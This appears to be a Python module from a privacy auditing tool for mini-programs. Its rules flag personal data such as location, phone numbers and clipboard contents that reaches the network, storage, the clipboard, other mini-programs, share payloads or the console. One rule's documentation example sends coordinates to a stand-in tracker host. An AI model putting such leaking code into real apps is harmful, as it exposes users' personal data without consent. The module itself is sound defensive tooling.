"""privacy: sensitive values that reach the network, storage, the clipboard, another mini-program, a share.

Two passes feed every rule: the canary pass (a source's value found in a sink, with its encoding) and the hidden
flows of the differential walk (a sink that changed when only the sources' values changed, see :mod:`.flows`).
Both are judged the same way.
"""

from __future__ import annotations

from typing import TYPE_CHECKING, Callable, Iterable

from ...apis.canary import CANARY_KINDS
from ...trace import SourceRead
from ..artifacts import Artifacts, RunArtifacts
from ..model import Severity
from .base import Hit, audit, event_evidence
from .flows import HiddenFlow, flow_evidence, hidden_flows, last_call_before

if TYPE_CHECKING:
    from ..policy import Policy

NETWORK_SINKS = ("network", "upload", "socket", "analytics")
# Values the user hands over on purpose, or that exist to be sent to the developer's own server.
EXPECTED_TO_SERVER = ("identity", "file")


def _flows(art: Artifacts, sinks: tuple[str, ...]):
    for run in art.runs:
        for e in run.trace.of_kind("flow"):
            if e.sink in sinks:
                yield run, e


def _describe(e) -> str:
    category = CANARY_KINDS.get(e.source_kind, e.source_kind)
    via = "" if e.encoding == "plain" else f" ({e.encoding})"
    to = f" → {e.destination}" if e.destination else ""
    return f"{category} from {e.source_api} reaches {e.sink_api}{to}{via}"


def _source_call(run: RunArtifacts, flow) -> object | None:
    """The last call of the flow's source API before the flow: where the data came from."""
    return last_call_before(run.trace, flow.source_api, flow.seq)


def _hit(run: RunArtifacts, e, message: str, severity: Severity | None = None) -> Hit:
    category = CANARY_KINDS.get(e.source_kind, e.source_kind)  # latitude and longitude are one finding
    evidence = [event_evidence(run, e, _describe(e), {"destination": e.destination, "encoding": e.encoding,
                                                       "consent": e.consent, "declared": e.declared})]
    source = _source_call(run, e)
    if source is not None and source.stack:
        evidence.append(event_evidence(run, source, f"source: {source.called_as} returned the {category}"))
    return Hit(message=message, key=f"{category}|{e.sink_api}|{e.destination}", evidence=evidence, severity=severity)


# A judgment: (category, sink, destination, consent, declared, description) -> (severity, message), None if fine.
Judgment = Callable[[str, str, "str | None", bool, bool, str], "tuple[Severity, str] | None"]
UNKNOWN_SOURCE = SourceRead(category="identity", api="an unknown source", kinds=[])


def _describe_hidden(flow: HiddenFlow) -> str:
    e = flow.event
    names = [f"{s.category} from {s.api}" for s in flow.candidates] or ["a sensitive value"]
    what = names[0] if len(names) == 1 else "one of " + ", ".join(names)
    to = f" → {e.destination}" if e.destination else ""
    also = f"; the canary pass found only {', '.join(e.found)} there" if e.found else ""
    return f"{what} reaches {e.sink_api}{to} (encoding unknown: {flow.change}, seen by a second walk with other " \
           f"source values{also})"


def _hidden_hits(art: Artifacts, sinks: tuple[str, ...], judge: Judgment) -> Iterable[Hit]:
    """The differential walk's hidden flows into ``sinks``, judged for their most severe candidate source."""
    for flow in hidden_flows(art, sinks):
        e = flow.event
        what = _describe_hidden(flow)
        worst: tuple[SourceRead, Severity, str] | None = None
        for source in flow.candidates or [UNKNOWN_SOURCE]:
            judged = judge(source.category, e.sink, e.destination, source.consent, source.declared, what)
            if judged is not None and (worst is None or judged[0].rank > worst[1].rank):
                worst = (source, *judged)
        if worst is not None:
            yield Hit(message=worst[2], key=f"{worst[0].category}|{e.sink_api}|{e.destination}",
                      evidence=flow_evidence(flow, what), severity=worst[1])


def _always(severity: Severity) -> Judgment:
    return lambda category, sink, destination, consent, declared, what: (severity, what)


@audit(
    "data-to-network",
    title="Sensitive data sent over the network",
    category="privacy",
    severity=Severity.ERROR,
    description="""A value returned by a sensitive API (location, phone number, profile, clipboard, address,
    device identifiers...) was found in a request, upload or socket message, also after JSON, URL, base64 or hex
    encoding, rounding, reversal or character codes; or the message changed when a second walk changed only the
    sensitive values (any other transform, or a branch on the value). Sending it to a domain outside the allow-list
    is an error; sending it without the user's consent or without declaring the scope is a warning; an
    allow-listed domain after consent and declaration is fine.""",
    fix="""Send personal data only to your own declared domains, only after the user agreed, and only what the
    feature needs (e.g. round coordinates server-side, never upload the clipboard).""",
    example="tt.getLocation({success: r => tt.request({url: 'https://tracker.example/?lat=' + r.latitude})})",
)
def data_to_network(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    def judge(category: str, sink: str, destination: str | None, consent: bool, declared: bool,
              what: str) -> tuple[Severity, str] | None:
        if sink == "analytics":  # reportAnalytics and friends: the platform's own collection
            if category not in EXPECTED_TO_SERVER:
                return Severity.WARNING, f"{what}: personal data in analytics events"
            return None
        if not policy.domain_allowed(destination):
            return Severity.ERROR, f"{what}: {destination or 'an unknown destination'} is not in the allow-list"
        if category in EXPECTED_TO_SERVER:
            return None
        if category == "clipboard":
            # no platform asks before a read, and the clipboard holds whatever the user copied last, from any app
            return Severity.WARNING, f"{what}: clipboard contents leave the device"
        if not consent or not declared:
            why = "without the user's consent" if not consent else "without declaring the scope"
            return Severity.WARNING, f"{what} {why}"
        if not policy.allow_domains:
            return Severity.INFO, f"{what} (no allow-list given: pass --allow-domain to judge the destination)"
        return None

    for run, e in _flows(art, NETWORK_SINKS):
        category = CANARY_KINDS.get(e.source_kind, "identity")
        judged = judge(category, e.sink, e.destination, e.consent, e.declared, _describe(e))
        if judged is not None:
            yield _hit(run, e, judged[1], judged[0])
    yield from _hidden_hits(art, NETWORK_SINKS, judge)


@audit(
    "data-to-storage",
    title="Sensitive data written to storage",
    category="privacy",
    severity=Severity.WARNING,
    description="""A sensitive value (location, phone number, profile, clipboard...) is persisted with
    setStorage. Local storage outlives the session and is readable by the whole mini-program; keep personal data
    there only when the feature needs it.""",
    fix="Keep the value in memory, or store a derived, non-identifying form (a city instead of coordinates).",
    example="tt.setStorageSync('phone', res.phoneNumber)",
)
def data_to_storage(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("storage",)):
        if CANARY_KINDS.get(e.source_kind) in EXPECTED_TO_SERVER:
            continue
        yield _hit(run, e, _describe(e))
    yield from _hidden_hits(art, ("storage",), lambda category, sink, destination, consent, declared, what: (
        None if category in EXPECTED_TO_SERVER else (Severity.WARNING, what)))


@audit(
    "data-to-clipboard",
    title="Sensitive data copied to the clipboard",
    category="privacy",
    severity=Severity.WARNING,
    description="""A sensitive value is written to the system clipboard, where every other app can read it.""",
    fix="Do not copy personal data to the clipboard; let the user copy what they choose.",
    example="tt.setClipboardData({data: userInfo.nickName + ' ' + location})",
)
def data_to_clipboard(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("clipboard",)):
        yield _hit(run, e, _describe(e))
    yield from _hidden_hits(art, ("clipboard",), _always(Severity.WARNING))


@audit(
    "data-to-miniprogram",
    title="Sensitive data handed to another mini-program",
    category="privacy",
    severity=Severity.ERROR,
    description="""A sensitive value is passed to another mini-program (navigateToMiniProgram extraData),
    a third party the user never consented to share it with.""",
    fix="Pass only an opaque order or session id; let the other mini-program ask the user itself.",
    example="tt.navigateToMiniProgram({appId: 'tt123', extraData: {phone}})",
)
def data_to_miniprogram(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("miniprogram",)):
        yield _hit(run, e, _describe(e))
    yield from _hidden_hits(art, ("miniprogram",), _always(Severity.ERROR))


@audit(
    "data-to-share",
    title="Sensitive data in a share payload",
    category="privacy",
    severity=Severity.WARNING,
    description="""A sensitive value ends up in what the page shares (onShareAppMessage title, path or query),
    so it travels to whoever receives the share.""",
    fix="Share a page path with an opaque id, never the user's data.",
    example="onShareAppMessage() { return {path: '/pages/a/a?lat=' + this.data.lat} }",
)
def data_to_share(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("share",)):
        yield _hit(run, e, _describe(e))
    yield from _hidden_hits(art, ("share",), _always(Severity.WARNING))


@audit(
    "data-to-console",
    title="Sensitive data written to the console",
    category="privacy",
    severity=Severity.INFO,
    description="""A sensitive value is printed with console.*; on devices logs can be collected by
    debugging tools and crash reporters.""",
    fix="Remove logging of personal data before release.",
    example="console.log('location', res.latitude, res.longitude)",
)
def data_to_console(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("console",)):
        yield _hit(run, e, _describe(e))
    yield from _hidden_hits(art, ("console",), _always(Severity.INFO))
